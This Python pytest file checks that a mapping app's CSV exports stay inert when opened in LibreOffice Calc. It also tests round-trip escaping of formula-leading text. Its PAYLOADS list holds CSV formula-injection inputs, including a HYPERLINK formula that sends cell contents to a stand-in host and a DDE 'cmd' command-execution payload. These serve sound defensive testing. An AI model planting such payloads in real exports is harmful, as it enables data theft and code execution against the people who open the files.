"""Text from data leaves in CSV exports as text: a spreadsheet never runs it as a formula."""

import shutil
import subprocess

import openpyxl
import pytest

from mapapp.cli import main
from mapapp.data import schema
from mapapp.data.importing.readers import read_rows
from mapapp.data.load import load_dataset, save_workspace
from mapapp.data.spreadsheet import restore, safe
from mapapp.data.tables import cell_text

PAYLOADS = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3", "'=already quoted", "''=twice")


def free_text(layer: schema.Layer) -> list[str]:
    """Text columns no other row refers to: ids and keys stay as they are."""
    return [c.name for c in layer.columns if c.kind == "text" and c.name not in layer.key and not c.name.endswith("id")]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, dataset):
    """A workspace whose every free-text cell holds a formula payload."""
    tables = {}
    for layer in schema.LAYERS:
        frame = dataset.tables[layer.name].copy()
        for n, column in enumerate(free_text(layer)):
            frame[column] = [PAYLOADS[(i + n) % len(PAYLOADS)] for i in range(len(frame))]
        tables[layer.name] = frame
    path = tmp_path_factory.mktemp("hostile") / "hostile.gpkg"
    save_workspace(dataset, path, tables)
    return path


def calc_cells(folder, files):
    """Open the CSV files in LibreOffice Calc (headless) and read every cell back as Calc holds it."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice (libreoffice-calc) is installed by scripts/install.sh --test"
    out = folder / "calc"
    subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{folder}/lo-profile",
                    "--convert-to", "xlsx", "--outdir", str(out), *map(str, files)],
                   check=True, capture_output=True, timeout=300)
    cells = {}
    for f in files:
        book = openpyxl.load_workbook(out / f"{f.stem}.xlsx")
        cells[f.stem] = [list(r) for r in book.active.iter_rows()]
    return cells


def test_every_csv_export_is_inert_in_calc_and_reads_back_to_the_original(hostile, tmp_path, capsys):
    ds = load_dataset(hostile)
    files = []
    for layer in schema.LAYERS:
        out = tmp_path / f"{layer.name}.csv"
        assert main(["export-layer", layer.name, str(out), "--data", str(hostile)]) == 0
        files.append(out)
        header, rows = read_rows(out)  # the importer's reader gives back the original text
        expected = [[cell_text(v) for v in r] for r in ds.tables[layer.name][list(layer.column_names)].itertuples(index=False)]
        assert header == list(layer.column_names) and [cells for _, cells in rows] == expected, layer.name
    plan = tmp_path / "plan.csv"
    assert main(["plan", "--new-posts", "2", "--csv", "--out", str(plan), "--data", str(hostile)]) == 0
    files.append(plan)
    capsys.readouterr()

    calc = calc_cells(tmp_path, files)
    formulas = [(name, c.coordinate, c.value) for name, sheet in calc.items() for r in sheet for c in r if c.data_type == "f"]
    assert formulas == []
    shown = {c.value for sheet in calc.values() for r in sheet for c in r if isinstance(c.value, str)}
    for payload in PAYLOADS:
        assert safe(payload) in shown, payload  # shown as the text, behind its apostrophe
    routes = {c.value for r in calc["routes"] for c in r}
    assert "'=1+1" in routes or "'-2+3" in routes  # the free-text notes reached Calc as text
    assert any(isinstance(c.value, float) and c.value < 0 for r in calc["places"] for c in r)  # numbers stay numbers


def test_a_re_import_of_an_export_changes_nothing(hostile, tmp_path, capsys):
    work = tmp_path / "work.gpkg"
    shutil.copy(hostile, work)
    out = tmp_path / "routes.csv"
    assert main(["export-layer", "routes", str(out), "--data", str(work)]) == 0
    assert main(["import", str(out), "--into", str(work), "--layer", "routes"]) == 0
    assert "routes: 0 added, 0 updated, 13 unchanged, 0 rejected" in capsys.readouterr().out


@pytest.mark.parametrize("text", [*PAYLOADS, "\t=1", "\r=1", "'", "''", "'a", "plain", "-5", "+1.5e3", "-", "@"])
def test_safe_then_restore_gives_the_text_back(text):
    written = safe(text)
    assert restore(written) == text
    assert not written.startswith(("=", "+", "@", "\t", "\r")) or written in ("+1.5e3",)
    assert not written.startswith("-") or written == "-5"
